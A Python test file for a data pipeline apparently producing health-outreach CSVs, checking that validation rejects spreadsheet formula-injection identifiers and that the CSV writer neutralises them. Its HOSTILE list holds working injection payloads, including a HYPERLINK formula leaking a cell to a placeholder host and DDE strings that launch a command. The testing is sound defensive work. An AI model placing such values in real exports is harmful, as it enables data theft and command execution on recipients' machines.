"""Identifier rules and spreadsheet-safe CSVs (issue 14, item 4): formula injection is refused by
``validate`` and, should a hostile value ever reach the outreach writer, neutralised there."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest

from pipeline import contract
from pipeline.errors import ContractError
from pipeline.outreach.lists import spreadsheet_safe, write_people_csv
from tests.fixture_params import copy_fixture_params
from tests.test_validate import INDEX, TARGETS, valid_tables, write_folder

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""The values issue 14 found in 189 rows of data/outreach/*/*.csv."""


def _hostile_practices(tables: dict[str, pl.DataFrame]) -> None:
    """Four practices with hostile ids, each given people in the people table."""
    practices = tables["practices"]
    tables["practices"] = pl.concat(
        [
            practices,
            pl.DataFrame(
                {"practice_id": list(HOSTILE), "icb_code": ["QHM"] * len(HOSTILE)},
                schema=contract.PRACTICES_SCHEMA,
            ),
        ]
    )
    people = tables["people"]
    hostile_ids = pl.Series(list(HOSTILE) * (people.height // len(HOSTILE)))
    tables["people"] = people.with_columns(practice_id=hostile_ids)


def _violations(folder: Path) -> list[str]:
    with pytest.raises(ContractError) as caught:
        contract.validate_population(folder, target_names=TARGETS, index_date=INDEX)
    return [line.strip() for line in str(caught.value).splitlines() if line.startswith("  ")]


def test_validate_refuses_formula_practice_ids_naming_rule_rows_and_examples(
    tmp_path: Path,
) -> None:
    tables = valid_tables()
    _hostile_practices(tables)
    lines = _violations(write_folder(tmp_path / "extract", tables))
    line = next(line for line in lines if line.startswith("practices.parquet / practice_id:"))
    assert f"identifier outside {contract.ID_PATTERN}" in line
    assert "(4 rows)" in line
    for value in sorted(HOSTILE)[: contract.EXAMPLES_SHOWN]:
        assert repr(value) in line


@pytest.mark.parametrize(
    ("table", "column", "value", "rule"),
    [
        ("people", "person_id", "@SUM(1)", "identifier outside"),
        ("people", "person_id", "P 1", "identifier outside"),
        ("people", "person_id", "-P1", "identifier outside"),
        ("people", "person_id", "P1\r", "identifier outside"),
        ("people", "person_id", "P" * 65, "identifier outside"),
        ("areas", "area_id", "=1+1", "identifier outside"),
        ("areas", "icb_code", "+QH", "ICB code outside"),
        ("areas", "icb_code", "qhm", "ICB code outside"),
        ("practices", "icb_code", "=A1", "ICB code outside"),
    ],
)
def test_each_identifier_rule(
    tmp_path: Path, table: str, column: str, value: str, rule: str
) -> None:
    tables = valid_tables()
    frame = tables[table]
    tables[table] = frame.with_columns(
        pl.when(pl.int_range(pl.len()) == 0)
        .then(pl.lit(value))
        .otherwise(pl.col(column))
        .alias(column)
    )
    lines = _violations(write_folder(tmp_path / "extract", tables))
    line = next(line for line in lines if line.startswith(f"{table}.parquet / {column}: {rule}"))
    assert "(1 rows)" in line and repr(value)[:80] in line


def test_contract_ids_of_the_synthetic_world_pass() -> None:
    for value in ("P0000000001", "A0000001", "GP000001", "E01000001", "Y00.1_a-b"):
        assert pl.Series([value]).str.contains(contract.ID_PATTERN).item()
    assert pl.Series(["QHM", "QE1"]).str.contains(contract.ICB_CODE_PATTERN).all()


def test_validate_cli_exits_2_with_the_examples(tmp_path: Path) -> None:
    tables = valid_tables()
    _hostile_practices(tables)
    folder = write_folder(tmp_path / "extract", tables)
    copy_fixture_params(tmp_path)
    result = subprocess.run(
        [sys.executable, "-m", "pipeline", "validate", str(folder), "--root", str(tmp_path)],
        check=False,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 2
    assert "practice_id: identifier outside" in result.stderr
    assert "Traceback" not in result.stderr


def test_writer_neutralises_formula_cells(tmp_path: Path) -> None:
    values = [*HOSTILE, "-2+3", "\t=1", "\r=1", "GP1", "", None]
    frame = pl.DataFrame(
        {
            "practice_id": values,
            "risk_tier": pl.Series(["high"] * len(values), dtype=pl.Categorical),
            "risk_score": [-0.5] * len(values),
        }
    )
    path = write_people_csv(frame, tmp_path / "list.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [row["practice_id"] for row in rows]
    assert cells[:7] == [f"'{value}" for value in values[:7]]
    assert cells[7:] == ["GP1", "", ""]
    assert {row["risk_score"] for row in rows} == {"-0.5000"}  # numbers are not text cells
    assert {row["risk_tier"] for row in rows} == {"high"}
    assert not any(cell[:1] in "=+-@\t\r" and cell for cell in cells)


def test_safe_frame_leaves_ordinary_lists_unchanged() -> None:
    frame = pl.DataFrame({"pseudonym": ["ab12", "ff00"], "reason_1": ["Age 84", "BMI 31.2"]})
    assert spreadsheet_safe(frame).equals(frame)
